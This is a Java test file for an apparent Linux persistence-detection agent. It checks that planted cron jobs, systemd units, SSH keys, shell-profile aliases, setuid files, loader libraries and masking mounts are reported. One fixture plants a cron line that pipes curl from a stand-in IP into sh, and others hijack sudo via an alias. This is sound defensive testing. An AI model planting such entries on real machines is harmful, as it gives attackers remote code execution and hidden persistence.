package bzh.vigie.agent.persistence;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.agent.host.FileWatch;
import bzh.vigie.agent.host.HostPath;
import bzh.vigie.agent.host.Machine;
import bzh.vigie.agent.host.Packages;
import bzh.vigie.agent.host.PasswdAccounts;
import bzh.vigie.agent.host.Reading;
import bzh.vigie.agent.host.linux.LinuxFileWatch;
import bzh.vigie.agent.host.linux.LinuxFiles;
import bzh.vigie.agent.persistence.catalogue.Catalogue;
import bzh.vigie.agent.persistence.catalogue.Location;
import bzh.vigie.agent.source.Checkpoint;
import bzh.vigie.agent.source.Sink;
import bzh.vigie.event.Event;
import bzh.vigie.event.Event.Change;
import bzh.vigie.event.Event.FileAction;
import bzh.vigie.event.Event.ItemSeen;
import bzh.vigie.event.Event.LocationRead;
import bzh.vigie.event.InventoryDigest;
import bzh.vigie.event.LocationStatus.State;
import bzh.vigie.event.LocationStatus.Trigger;
import bzh.vigie.event.Observed;
import bzh.vigie.event.ReasonCode;
import bzh.vigie.event.WatchState;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.lang.reflect.Proxy;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The inventory over a real tree with real notifications. */
class InventoryTest {
    private static final String CRON = "linux.cron.d";

    @TempDir
    Path folder;

    Path root;

    /** Whether files are read as the first process sees them. */
    private boolean firstView;

    private volatile boolean managerAtWork;
    private final Packages packages = new Packages() {
        @Override
        public Observed<String> owner(HostPath path) {
            return managerAtWork ? Observed.known("") : Observed.missed(Observed.Why.NOT_OFFERED);
        }

        @Override
        public boolean atWork() {
            return managerAtWork;
        }
    };

    Path state;
    final Collected events = new Collected();
    private final AtomicInteger selftests = new AtomicInteger();
    private final AtomicLong nanos = new AtomicLong();
    private boolean otherRoot;
    private final List<AutoCloseable> open = new ArrayList<>();
    private final List<Boolean> turns = Collections.synchronizedList(new ArrayList<>());

    @BeforeEach
    void makeAMachine() throws IOException {
        root = Files.createDirectories(folder.resolve("root"));
        state = folder.resolve("state");
        Trees.write(root, "/etc/passwd", "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n");
        Trees.write(root, "/etc/cron.d/job", "* * * * * root /usr/bin/true\n");
        Files.createDirectories(root.resolve("home/alice"));
    }

    @AfterEach
    void close() throws Exception {
        for (AutoCloseable each : open.reversed()) {
            each.close();
        }
    }

    @Test
    void theFirstPassListsEverythingAsPresent() throws IOException {
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        ItemSeen seen = events.items(CRON).getFirst();
        LocationRead read = events.reads(CRON).getFirst();
        assertEquals(Change.PRESENT, seen.change());
        assertEquals(seen.reading(), read.reading());
        assertTrue(read.completeListing());
        assertEquals(State.READ, read.status().state());
        assertEquals(1, read.status().items());
        assertEquals(Trigger.PASS, read.status().trigger());
        assertEquals(
                WatchState.LIVE,
                ((Event.Coverage) events.await(e ->
                                e instanceof Event.Coverage c && c.subject().equals(CRON)))
                        .state());
        for (Location location : Catalogue.linux()) {
            assertFalse(events.reads(location.id()).isEmpty(), location.id());
        }
        Event.Coverage pass = (Event.Coverage) events.await(e -> e instanceof Event.Coverage c && c.isPass());
        assertEquals("linux.persistence.pass", pass.subject());
        assertEquals(WatchState.LIVE, pass.state());
        assertTrue(pass.fromWallMicros() <= pass.toWallMicros());
    }

    /** A machine on which nothing changes tells nothing but that, as one digest: the same that its heartbeats have. */
    @Test
    void aPassThatFoundNothingNewConfirmsAllThatWasTold() throws IOException {
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        Event.Coverage first = (Event.Coverage) events.await(e -> e instanceof Event.Coverage c && c.isPass());
        events.forget();
        inventory.passNow();
        Event.Coverage second = (Event.Coverage) events.await(e -> e instanceof Event.Coverage c && c.isPass());
        assertEquals(List.of(), events.reads(CRON));
        assertEquals(Optional.of(InventoryDigest.over(inventory.digests())), second.digest());
        assertEquals(first.digest(), second.digest());
        Trees.write(root, "/etc/cron.d/planted", "* * * * * root /usr/bin/id\n");
        events.awaitItem(CRON, Change.ADDED);
        events.forget();
        inventory.passNow();
        Event.Coverage third = (Event.Coverage) events.await(e -> e instanceof Event.Coverage c && c.isPass());
        assertNotEquals(first.digest(), third.digest());
        assertEquals(Optional.of(InventoryDigest.over(inventory.digests())), third.digest());
    }

    @Test
    void aLaterPassGoesLastAndAChangeDoesNot() throws IOException {
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        assertEquals(List.of(), turns);
        inventory.passNow();
        long patience = System.nanoTime() + Duration.ofMinutes(3).toNanos();
        while (inventory.passes() < 2) {
            assertTrue(System.nanoTime() < patience, "the second pass does not end");
            LockSupport.parkNanos(5_000_000);
        }
        assertEquals(List.of(true), turns);
        Trees.write(root, "/etc/cron.d/planted", "* * * * * root /usr/bin/id\n");
        events.awaitItem(CRON, Change.ADDED);
        assertEquals(List.of(true, false), turns);
    }

    @Test
    void whatIsPlantedChangedAndRemovedIsToldAtOnce() throws IOException {
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        events.forget();
        Path planted = Trees.write(root, "/etc/cron.d/planted", "* * * * * root curl http://203.0.113.1/|sh\n");
        ItemSeen added = events.awaitItem(CRON, Change.ADDED);
        assertEquals("/etc/cron.d/planted", added.item().source());
        Files.writeString(planted, "5 * * * * root curl http://203.0.113.1/|sh\n");
        ItemSeen changed = events.awaitItem(CRON, Change.CHANGED);
        assertEquals(added.item().key(), changed.item().key());
        assertEquals(added.item().value(), changed.before().orElseThrow().value());
        Files.delete(planted);
        ItemSeen removed = events.awaitItem(CRON, Change.REMOVED);
        assertEquals(changed.item(), removed.before().orElseThrow());
        LocationRead read =
                (LocationRead) events.await(e -> e instanceof LocationRead r && r.reading() == removed.reading());
        assertFalse(read.completeListing());
        assertEquals(Trigger.NOTIFICATION, read.status().trigger());
    }

    @Test
    void aFileOfALocationIsToldWithWhatBecameOfIt() throws IOException {
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        Path planted = Trees.write(root, "/etc/cron.d/planted", "* * * * * root /usr/bin/id\n");
        awaitFile("/etc/cron.d/planted", FileAction.CREATED);
        awaitFile("/etc/cron.d/planted", FileAction.MODIFIED);
        Files.delete(planted);
        awaitFile("/etc/cron.d/planted", FileAction.DELETED);
    }

    private void awaitFile(String path, FileAction action) {
        events.await(e -> e instanceof Event.FileChange file && file.path().equals(path) && file.action() == action);
    }

    @Test
    void aSpecimenOfASelftestIsNotedAndNotToldAndOneThatStaysIsTold() throws IOException {
        String secret = "0123456789abcdef0123456789abcdef";
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        events.forget();
        Files.writeString(folder.resolve(OwnCanaries.SECRET), secret);
        Trees.write(root, "/etc/cron.d/own-" + secret, "0 0 30 2 * root /bin/true\n");
        Trees.write(root, "/etc/cron.d/other", "0 0 30 2 * root /bin/true\n");
        assertEquals(
                "/etc/cron.d/other", events.awaitItem(CRON, Change.ADDED).item().source());
        assertEquals(1, selftests.get());
        assertTrue(Files.readString(folder.resolve(OwnCanaries.NOTICED)).contains(CRON + "\n"));
        events.forget();
        nanos.addAndGet(Duration.ofMinutes(3).toNanos());
        Trees.write(root, "/etc/cron.d/own-" + secret, "1 0 30 2 * root /bin/true\n");
        assertTrue(events.awaitItem(CRON, Change.ADDED).item().source().contains(secret));
    }

    @Test
    void aPlaceThatDidNotExistIsNoticedWhenItAppears() throws IOException {
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        events.forget();
        Trees.write(root, "/etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/x\n");
        assertEquals(
                "x.service:ExecStart",
                events.awaitItem("linux.systemd.service", Change.ADDED).item().name());
        Trees.write(root, "/etc/systemd/system/x.service.d/o.conf", "[Service]\nExecStop=/tmp/y\n");
        events.awaitItem("linux.systemd.drop-in", Change.ADDED);
        Trees.write(root, "/home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA a\n");
        ItemSeen key = events.awaitItem("linux.ssh.authorized-keys", Change.ADDED);
        assertEquals("alice", key.item().account().orElseThrow().name());
    }

    @Test
    void aHomeThatComesLaterIsWatchedToo() throws IOException {
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        events.forget();
        Files.createDirectories(root.resolve("home/bob"));
        events.await(e -> e instanceof LocationRead read
                && read.status().account().filter(a -> a.name().equals("bob")).isPresent()
                && read.status().location().equals("linux.shell.user-profile"));
        Trees.write(root, "/home/bob/.bashrc", "alias sudo=/tmp/sudo\n");
        ItemSeen seen = events.awaitItem("linux.shell.user-profile", Change.ADDED);
        assertEquals("-/bob", seen.item().account().orElseThrow().id());
    }

    @Test
    void aUserCrontabThatComesAndGoesIsOfItsAccount() throws IOException {
        Files.createDirectories(root.resolve("var/spool/cron/crontabs"));
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        events.forget();
        Path table = Trees.write(root, "/var/spool/cron/crontabs/alice", "* * * * * /tmp/x\n");
        ItemSeen added = events.awaitItem("linux.cron.user", Change.ADDED);
        assertEquals("1000", added.item().account().orElseThrow().id());
        Files.delete(table);
        events.awaitItem("linux.cron.user", Change.REMOVED);
    }

    @Test
    void aRestartTellsOnlyWhatChangedMeanwhile() throws Exception {
        awaitFirstPass(start(true));
        long readings = events.reads(CRON).getFirst().reading();
        close();
        open.clear();
        events.forget();
        Trees.write(root, "/etc/cron.d/meanwhile", "* * * * * root /tmp/y\n");
        Files.writeString(root.resolve("etc/cron.d/job"), "1 1 * * * root /usr/bin/true\n");
        Inventory again = start(true);
        awaitFirstPass(again);
        assertEquals(
                List.of(Change.CHANGED, Change.ADDED),
                events.items(CRON).stream().map(ItemSeen::change).toList());
        assertTrue(events.items(CRON).getFirst().before().isPresent());
        assertTrue(events.reads(CRON).getFirst().reading() > readings);
        assertEquals(List.of(), events.reads("linux.account.passwd"));
        assertFalse(again.digests().isEmpty());
    }

    /** Killed with what it told in memory, or with it on the disk: the state folder is as it was at that moment. */
    @ParameterizedTest
    @ValueSource(booleans = {false, true})
    void aChangeIsToldOnceThoughTheAgentIsKilledWhileItTellsIt(boolean isOnDisk) throws Exception {
        awaitFirstPass(start(true));
        close();
        open.clear();
        events.forget();
        Path left = folder.resolve("left");
        CountDownLatch killed = new CountDownLatch(1);
        Trees.write(root, "/etc/cron.d/meanwhile", "* * * * * root /tmp/y\n");
        start(true, new Sink() {
            @Override
            public void accept(Event event) {
                // Lost with the agent.
            }

            @Override
            public void acceptAll(List<Event> together, Checkpoint then) {
                if (killed.getCount() > 0 && !together.isEmpty() && together.getFirst() instanceof ItemSeen) {
                    copy(state, left);
                    if (isOnDisk) {
                        events.acceptAll(together, then);
                    }
                    killed.countDown();
                }
            }

            @Override
            public String checkpoint(String source) {
                return events.checkpoint(source);
            }
        });
        assertTrue(killed.await(3, TimeUnit.MINUTES), "nothing was told");
        close();
        open.clear();
        state = left;
        awaitFirstPass(start(true));
        assertEquals(
                List.of(Change.ADDED),
                events.items(CRON).stream().map(ItemSeen::change).toList());
    }

    private static void copy(Path from, Path to) {
        try (Stream<Path> files = Files.list(from)) {
            Files.createDirectories(to);
            for (Path file : files.toList()) {
                Files.copy(file, to.resolve(String.valueOf(file.getFileName())));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @Test
    void aCompleteListingComesWhenItIsAskedFor() throws IOException {
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        InventoryDigest.Entry before = digest(inventory);
        events.forget();
        inventory.listCompletely(CRON, "");
        inventory.listCompletely("no.such.location", "");
        LocationRead read = (LocationRead) events.await(
                e -> e instanceof LocationRead r && r.status().location().equals(CRON));
        assertTrue(read.completeListing());
        assertEquals(Trigger.REQUEST, read.status().trigger());
        assertEquals(before.digest(), read.digest());
        assertEquals(
                List.of(Change.PRESENT),
                events.items(CRON).stream().map(ItemSeen::change).toList());
    }

    @Test
    void whatCannotBeReadIsNeverToldAsRemoved() throws Exception {
        Path job = root.resolve("etc/cron.d/job");
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        InventoryDigest.Entry before = digest(inventory);
        events.forget();
        Files.delete(job);
        fifo(job);
        LocationRead read = (LocationRead) events.await(e -> e instanceof LocationRead r
                && r.status().location().equals(CRON)
                && r.status().state() == State.UNREADABLE);
        assertEquals(ReasonCode.FAILED, read.status().reason());
        assertTrue(events.items(CRON).stream().noneMatch(i -> i.change() == Change.REMOVED) || wasSeenGone());
        events.await(e -> e instanceof Event.Coverage c && c.subject().equals(CRON) && c.state() == WatchState.LIVE);
        if (!wasSeenGone()) {
            assertEquals(before.digest(), read.digest());
        }
    }

    /** What was there when the file could be read is known: what else is found afterwards came since. */
    @Test
    void whatCameWhileAFileCouldNotBeReadIsNewAndNewlyVisibleWhereItNeverCould() throws Exception {
        Path job = root.resolve("etc/cron.d/job");
        Path never = root.resolve("etc/cron.d/never");
        fifo(never);
        awaitFirstPass(start(true));
        Path beside = root.resolve("beside");
        fifo(beside);
        events.forget();
        Files.move(beside, job, StandardCopyOption.ATOMIC_MOVE);
        events.await(e -> e instanceof LocationRead r
                && r.status().location().equals(CRON)
                && r.status().state() == State.UNREADABLE);
        Files.writeString(beside, "* * * * * root /usr/bin/true\n* * * * * root /usr/bin/id\n");
        Files.move(beside, job, StandardCopyOption.ATOMIC_MOVE);
        assertEquals(
                "/etc/cron.d/job", events.awaitItem(CRON, Change.ADDED).item().source());
        Files.writeString(beside, "* * * * * root /usr/bin/id\n");
        Files.move(beside, never, StandardCopyOption.ATOMIC_MOVE);
        assertEquals(
                "/etc/cron.d/never",
                events.awaitItem(CRON, Change.NEWLY_VISIBLE).item().source());
    }

    /** Between deletion and FIFO a reading may truly have found nothing. */
    private boolean wasSeenGone() {
        return events.reads(CRON).stream()
                .anyMatch(r -> r.status().state() == State.READ && r.status().items() == 0);
    }

    @Test
    void withoutNotificationsThePassFindsChangesAndTheStateSaysSo() throws IOException {
        Inventory inventory = start(false);
        Event.SourceState source = (Event.SourceState) events.await(e -> e instanceof Event.SourceState);
        assertEquals(WatchState.PARTIAL, source.state());
        assertEquals(ReasonCode.FALLBACK, source.reason());
        awaitFirstPass(inventory);
        Event.Coverage coverage = (Event.Coverage)
                events.await(e -> e instanceof Event.Coverage c && c.subject().equals(CRON));
        assertEquals(WatchState.PARTIAL, coverage.state());
        Trees.write(root, "/etc/cron.d/planted", "* * * * * root /tmp/x\n");
        inventory.passNow();
        ItemSeen added = events.awaitItem(CRON, Change.ADDED);
        LocationRead read =
                (LocationRead) events.await(e -> e instanceof LocationRead r && r.reading() == added.reading());
        assertEquals(Trigger.PASS, read.status().trigger());
    }

    @Test
    void aPlaceOfWhichTheKernelTellsNothingSaysThatOnlyThePassSeesIt() throws IOException {
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        String rights = "linux.file.rights";
        Event.Coverage coverage = (Event.Coverage)
                events.await(e -> e instanceof Event.Coverage c && c.subject().equals(rights));
        assertEquals("location-by-passes", coverage.detail());
        events.forget();
        Path planted = Trees.write(root, "/srv/planted", "x");
        Files.setAttribute(planted, "unix:mode", 04755);
        inventory.passNow();
        ItemSeen added = events.awaitItem(rights, Change.ADDED);
        assertEquals("/srv/planted", added.item().source());
        LocationRead read =
                (LocationRead) events.await(e -> e instanceof LocationRead r && r.reading() == added.reading());
        assertEquals(Trigger.PASS, read.status().trigger());
    }

    @Test
    void coverageIsToldWhenWatchingEnds() throws Exception {
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        events.forget();
        events.anHourPasses();
        inventory.close();
        Event.Coverage coverage = (Event.Coverage)
                events.await(e -> e instanceof Event.Coverage c && c.subject().equals(CRON));
        assertTrue(coverage.lengthMicros() >= Duration.ofHours(1).toNanos() / 1_000);
        assertEquals(WatchState.DOWN, ((Event.SourceState) events.await(e -> e instanceof Event.SourceState)).state());
    }

    /** A drill by others: what was planted while a package manager was at work, or at the last moment, was told with the next start. */
    @Test
    void whatWasPlantedJustBeforeTheEndIsToldWithIt() throws IOException {
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        managerAtWork = true;
        Trees.write(root, "/etc/cron.d/planted", "* * * * * root /usr/bin/id\n");
        Trees.write(root, "/etc/incron.d/planted", "/tmp IN_CREATE /usr/bin/id\n");
        inventory.close();
        for (String location : List.of(CRON, "linux.cron.incron")) {
            List<String> added = events.items(location).stream()
                    .filter(seen -> seen.change() == Change.ADDED)
                    .map(seen -> seen.item().source())
                    .toList();
            assertEquals(1, added.size(), location + ": " + added);
        }
    }

    @Test
    void aSwappedBinaryIsAChangedItem() throws IOException {
        Path binary = Trees.write(root, "/usr/bin/true", "one");
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        events.forget();
        Files.writeString(binary, "two");
        inventory.passNow();
        ItemSeen changed = events.awaitItem(CRON, Change.CHANGED);
        assertNotEquals(changed.before().orElseThrow().sha256(), changed.item().sha256());
    }

    /** A drill by others: InaccessiblePaths= of the agent's own unit. It hides nothing, and is told with the location all the same. */
    @Test
    void aLocationThatIsCoveredForTheAgentAloneIsReadAndToldAsCovered() throws IOException {
        String table = "22 1 254:1 / / rw - ext4 /dev/vda1 rw\n";
        Path own = Trees.write(root, "/proc/self/mountinfo", table);
        Trees.write(root, "/proc/1/mountinfo", table);
        firstView = true;
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        events.forget();
        Files.writeString(own, table + "90 22 0:25 /systemd/inaccessible/dir /etc/cron.d ro - tmpfs tmpfs ro\n");
        Files.delete(root.resolve("etc/cron.d/job"));
        inventory.passNow();
        Event.Coverage covered = (Event.Coverage) events.await(
                e -> e instanceof Event.Coverage c && c.subject().equals(CRON) && c.reason() == ReasonCode.COVERED);
        assertEquals(WatchState.LIVE, covered.state());
        assertEquals("location-covered-here|/etc/cron.d", covered.detail());
        events.awaitItem(CRON, Change.REMOVED);
    }

    /** A mount over a directory shows other files than the disk holds: those below are neither seen nor gone. */
    @Test
    void aLocationThatAMountCoversIsNotWatchedUntilItIsGone() throws IOException {
        String table = "22 1 254:1 / / rw - ext4 /dev/vda1 rw\n";
        Path mounts = Trees.write(root, "/proc/self/mountinfo", table);
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        events.forget();
        Files.writeString(mounts, table + "90 22 254:1 /var/lib/.c/cron.d /etc/cron.d rw - ext4 /dev/vda1 rw\n");
        Files.delete(root.resolve("etc/cron.d/job"));
        inventory.passNow();
        Event.Coverage covered = (Event.Coverage) events.await(
                e -> e instanceof Event.Coverage c && c.subject().equals(CRON) && c.reason() == ReasonCode.COVERED);
        assertEquals(WatchState.PARTIAL, covered.state());
        assertEquals("location-covered|/etc/cron.d", covered.detail());
        Event.SourceState state = (Event.SourceState)
                events.await(e -> e instanceof Event.SourceState s && s.reason() == ReasonCode.COVERED);
        assertEquals(WatchState.PARTIAL, state.state());
        events.await(e -> e instanceof Event.Coverage c && c.isPass());
        assertEquals(
                List.of(),
                events.items(CRON).stream()
                        .filter(seen -> seen.change() == Change.REMOVED)
                        .toList());
        for (String elsewhere : List.of("linux.cron.system", "linux.sudoers", "linux.systemd.service")) {
            assertTrue(
                    events.all().stream()
                            .noneMatch(e -> e instanceof Event.Coverage c
                                    && c.reason() == ReasonCode.COVERED
                                    && c.subject().equals(elsewhere)),
                    elsewhere);
        }
        events.forget();
        Files.writeString(mounts, table);
        inventory.passNow();
        events.awaitItem(CRON, Change.REMOVED);
        events.await(e -> e instanceof LocationRead read
                && read.status().location().equals(CRON)
                && read.status().state() == State.READ);
    }

    /** Third drill: a library beside those that every program loads waited for the next pass. Links to libraries are among them. */
    @Test
    void aLibraryWhereTheLoaderLooksIsToldBeforeAnyPass() throws IOException {
        Trees.write(root, "/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.10", "shipped");
        Trees.write(root, "/usr/lib/x86_64-linux-gnu/deep/plugin.so", "shipped");
        awaitFirstPass(start(true));
        events.forget();
        Trees.write(root, "/usr/lib/x86_64-linux-gnu/libnss_q.so.2", "other");
        ItemSeen added = events.awaitItem("linux.file.system-library", Change.ADDED);
        assertEquals("/usr/lib/x86_64-linux-gnu/libnss_q.so.2", added.item().source());
        LocationRead read = (LocationRead) events.await(
                e -> e instanceof LocationRead r && r.status().location().equals("linux.file.system-library"));
        assertEquals(Trigger.NOTIFICATION, read.status().trigger());
    }

    /** An agent that runs in a copy of the disk: whatever it reads there, no location of the machine is watched, and nothing is gone. */
    @Test
    void nothingIsWatchedInAnotherRootThanThatOfTheFirstProcess() throws IOException {
        otherRoot = true;
        Inventory inventory = start(true);
        awaitFirstPass(inventory);
        Event.SourceState told = (Event.SourceState)
                events.await(e -> e instanceof Event.SourceState s && s.reason() == ReasonCode.COVERED);
        assertEquals("persistence-other-root", told.detail());
        Set<String> covered = events.all().stream()
                .filter(e -> e instanceof Event.Coverage c && c.reason() == ReasonCode.COVERED)
                .map(e -> ((Event.Coverage) e).subject())
                .collect(Collectors.toSet());
        for (Location location : Catalogue.linux()) {
            assertTrue(covered.contains(location.id()), location.id());
        }
        events.forget();
        Files.delete(root.resolve("etc/cron.d/job"));
        inventory.passNow();
        events.await(e -> e instanceof Event.Coverage c && c.isPass());
        assertTrue(events.items(CRON).stream().noneMatch(seen -> seen.change() == Change.REMOVED));
    }

    @Test
    void theStateFolderHoldsNothingThatOthersMayRead() throws IOException {
        awaitFirstPass(start(true));
        assertTrue(PosixFilePermissions.toString(Files.getPosixFilePermissions(state))
                .endsWith("------"));
    }

    private InventoryDigest.Entry digest(Inventory inventory) {
        return inventory.digests().stream()
                .filter(e -> e.location().equals(CRON))
                .findFirst()
                .orElseThrow();
    }

    private void awaitFirstPass(Inventory inventory) {
        long patience = System.nanoTime() + Duration.ofMinutes(3).toNanos();
        while (inventory.digests().isEmpty()) {
            assertTrue(System.nanoTime() < patience, "the first pass does not end");
            LockSupport.parkNanos(5_000_000);
        }
    }

    private Inventory start(boolean watched) throws IOException {
        return start(watched, events);
    }

    private Inventory start(boolean watched, Sink sink) throws IOException {
        LinuxFiles files = LinuxFiles.under(root.toString()).ifFound().orElseThrow();
        Reading<FileWatch> watch = watched
                ? LinuxFileWatch.open(files)
                : Reading.refused(ReasonCode.NOT_SUPPORTED, "no notifications in this test");
        Machine machine = new Machine(
                firstView
                        ? withAnswer(files, "mountTable", HostPath.of("/proc/1/mountinfo"))
                        : otherRoot ? withAnswer(files, "hasOtherRoot", true) : files,
                new PasswdAccounts(files),
                packages,
                watch);
        open.add(machine);
        Inventory inventory = Inventory.open(
                sink, events, machine, state, new OwnCanaries(folder, nanos::get, selftests::incrementAndGet));
        open.add(inventory);
        inventory.takeTurns(turns::add);
        inventory.start();
        return inventory;
    }

    /** These files, as if they were read past what is mounted for this process alone, or in another root than the first process has. */
    private static bzh.vigie.agent.host.Files withAnswer(LinuxFiles files, String name, Object answer) {
        return (bzh.vigie.agent.host.Files) Proxy.newProxyInstance(
                InventoryTest.class.getClassLoader(),
                new Class<?>[] {bzh.vigie.agent.host.Files.class},
                (proxy, method, given) -> method.getName().equals(name) ? answer : method.invoke(files, given));
    }

    private static void fifo(Path path) throws Exception {
        assertEquals(0, new ProcessBuilder("mkfifo", path.toString()).start().waitFor());
    }
}
